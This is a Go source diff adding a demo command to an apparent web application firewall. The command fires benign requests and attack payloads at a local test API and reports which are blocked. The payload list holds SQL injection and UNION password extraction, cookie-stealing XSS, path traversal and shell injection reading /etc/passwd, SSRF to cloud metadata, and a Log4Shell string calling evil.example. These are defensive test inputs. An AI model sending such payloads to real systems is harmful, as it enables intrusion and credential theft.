@@ -1,0 +1,149 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"text/tabwriter"
+	"time"
+
+	"github.com/rampartsec/rampart"
+	"github.com/rampartsec/rampart/event"
+	"github.com/rampartsec/rampart/httpguard"
+)
+
+// demoRequest is one request the demo sends.
+type demoRequest struct {
+	what   string
+	method string
+	target string
+	body   string
+	ctype  string
+	header [2]string
+}
+
+var demoRequests = []demoRequest{
+	{what: "normal search", method: "GET", target: "/search?q=running+shoes&page=2"},
+	{what: "normal JSON order", method: "POST", target: "/orders", body: `{"item":"sku-1234","quantity":2,"note":"Leave it with O'Brien at the front desk"}`, ctype: "application/json"},
+	{what: "normal comment with SQL words", method: "POST", target: "/comments", body: "text=Please+select+the+best+option+and+drop+me+a+line", ctype: "application/x-www-form-urlencoded"},
+	{what: "SQL injection in the query", method: "GET", target: "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20"},
+	{what: "UNION-based SQL injection in JSON", method: "POST", target: "/orders", body: `{"item":"1 UNION SELECT username, password FROM users--","quantity":1}`, ctype: "application/json"},
+	{what: "reflected XSS", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
+	{what: "path traversal", method: "GET", target: "/files?name=..%2F..%2F..%2Fetc%2Fpasswd"},
+	{what: "shell injection", method: "POST", target: "/comments", body: "text=hello%3B+cat+%2Fetc%2Fpasswd", ctype: "application/x-www-form-urlencoded"},
+	{what: "SSRF to cloud metadata", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
+	{what: "Log4Shell in a header", method: "GET", target: "/search?q=ok", header: [2]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
+	{what: "scanner user agent", method: "GET", target: "/", header: [2]string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
+	{what: "normal health check", method: "GET", target: "/healthz"},
+}
+
+func demoCmd(args []string, out io.Writer) error {
+	fs := flag.NewFlagSet("demo", flag.ContinueOnError)
+	addr := fs.String("addr", "127.0.0.1:0", "address of the demo API (loopback)")
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+	var mu sync.Mutex
+	events := map[string]*event.Event{}
+	agent, err := rampart.New(rampart.Config{
+		Enabled: true, Mode: rampart.ModeBlock, Service: "demo-api",
+		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
+		Exporter: rampart.ExporterFunc(func(e *event.Event) {
+			mu.Lock()
+			events[e.Request.URI+"|"+e.Request.Method] = e
+			mu.Unlock()
+		}),
+	})
+	if err != nil {
+		return err
+	}
+	fmt.Fprintf(out, "rampart %s: WAF ready in %v (%d rules, block mode)\n", rampart.Version, agent.InitDuration().Round(time.Microsecond), agent.Engine().RuleCount())
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.Copy(io.Discard, r.Body)
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(map[string]string{"ok": "true", "path": r.URL.Path})
+	})
+	ln, err := net.Listen("tcp", *addr)
+	if err != nil {
+		return err
+	}
+	srv := &http.Server{Handler: httpguard.New(agent, mux), ReadHeaderTimeout: 5 * time.Second}
+	go func() { _ = srv.Serve(ln) }()
+	defer func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+		defer cancel()
+		_ = srv.Shutdown(ctx)
+	}()
+	base := "http://" + ln.Addr().String()
+	fmt.Fprintf(out, "demo API protected by httpguard on %s\n\n", base)
+
+	tw := tabwriter.NewWriter(out, 0, 4, 2, ' ', 0)
+	fmt.Fprintln(tw, "REQUEST\tSTATUS\tVERDICT\tRULES")
+	client := &http.Client{Timeout: 5 * time.Second}
+	blocked := 0
+	for _, d := range demoRequests {
+		req, err := http.NewRequest(d.method, base+d.target, strings.NewReader(d.body))
+		if err != nil {
+			return err
+		}
+		req.Header.Set("User-Agent", "Mozilla/5.0 (demo client)")
+		if d.ctype != "" {
+			req.Header.Set("Content-Type", d.ctype)
+		}
+		if d.header[0] != "" {
+			req.Header.Set(d.header[0], d.header[1])
+		}
+		resp, err := client.Do(req)
+		if err != nil {
+			return err
+		}
+		_, _ = io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		// The event is exported when the request finishes, just after the
+		// response is written.
+		var ev *event.Event
+		for i := 0; i < 100 && ev == nil; i++ {
+			mu.Lock()
+			ev = events[req.URL.RequestURI()+"|"+d.method]
+			mu.Unlock()
+			if ev == nil && resp.StatusCode == http.StatusForbidden {
+				time.Sleep(2 * time.Millisecond)
+				continue
+			}
+			break
+		}
+		verdict := "passed"
+		if resp.StatusCode == http.StatusForbidden {
+			verdict = "BLOCKED"
+			blocked++
+		}
+		var why []string
+		if ev != nil {
+			for _, t := range ev.Triggers {
+				why = append(why, fmt.Sprintf("%s (%s in %s)", t.RuleID, t.Category, shortAddr(t.Address, t.KeyPath)))
+			}
+		}
+		fmt.Fprintf(tw, "%s\t%d\t%s\t%s\n", d.what, resp.StatusCode, verdict, strings.Join(why, ", "))
+	}
+	tw.Flush()
+	st := agent.Stats()
+	fmt.Fprintf(out, "\n%d requests, %d flagged, %d blocked, %d internal errors\n", st.Requests.Load(), st.Attacks.Load(), blocked, st.Panics.Load())
+	return nil
+}
+
+func shortAddr(addr string, kp []string) string {
+	addr = strings.TrimPrefix(addr, "server.request.")
+	if len(kp) > 0 {
+		addr += "." + strings.Join(kp, ".")
+	}
+	return addr
+}
